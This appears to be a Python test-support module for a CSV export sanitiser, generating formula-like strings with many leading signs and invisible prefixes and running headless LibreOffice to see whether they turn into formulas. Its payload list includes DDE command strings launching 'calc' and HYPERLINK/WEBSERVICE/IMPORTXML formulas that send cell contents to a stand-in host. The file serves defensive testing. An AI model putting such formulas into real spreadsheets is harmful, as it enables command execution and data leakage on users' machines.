"""Texts that a spreadsheet could take for formulas, and LibreOffice to see whether it does."""

from __future__ import annotations

import shutil
import subprocess
import unicodedata
from collections.abc import Callable, Iterable
from itertools import product
from pathlib import Path

import pytest

from tests.scale import SOAK

# Opens files with a filter ("" for the usual one) and gives the XLSX that it saved of each.
Save = Callable[[Iterable[Path], str], list[Path]]

# What a spreadsheet may read as the start of a formula, in every width, and what can stand before it unseen.
SIGNS = "=+-@|%\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u2212"
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "a;",
    "a\t",
    'a","',
    "a\n",
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://beacon.example/?"&A1,"Click")',
    'WEBSERVICE("https://beacon.example/"&A1)',
    'IMPORTXML("https://beacon.example/","//a")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"1")',
    "[1]Sheet!A1",
    "2.5",
)
FORMULAS = [
    before + sign + BODIES[(place + step) % len(BODIES)]
    for place, (before, sign) in enumerate(product(BEFORE, SIGNS))
    for step in range(3)
]

# How LibreOffice reads a CSV: as it stands, and with the separators of other countries.
READERS = tuple(
    f"Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,true"
    for separators in ("44", "59", "9", "44/59/9")
)


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet that forgives blanks, widths and unseen signs could see a formula."""
    seen = next((sign for sign in cell if unicodedata.category(sign)[0] not in "CZ"), "")
    return unicodedata.normalize("NFKC", seen) in set("=+-@|%\u2212") or cell[:1] in {"\t", "\r", "\0"}


def libreoffice(profile: Path, made: Path) -> Save:
    """Return LibreOffice without a screen, or skip the test: it opens tables in a soak alone."""
    if not SOAK:
        pytest.skip("LibreOffice opens the tables in `make soak` alone: it takes a minute")
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("There is no LibreOffice. Install it (Debian: apt-get install libreoffice-calc-nogui)")

    def save(files: Iterable[Path], reader: str) -> list[Path]:
        every = list(files)
        subprocess.run(
            [
                *(program, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"),
                *("--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(made)),
                *((f"--infilter={reader}",) if reader else ()),
                *map(str, every),
            ],
            check=True,
            capture_output=True,
            timeout=300,
        )
        return [made / f"{file.stem}.xlsx" for file in every]

    return save
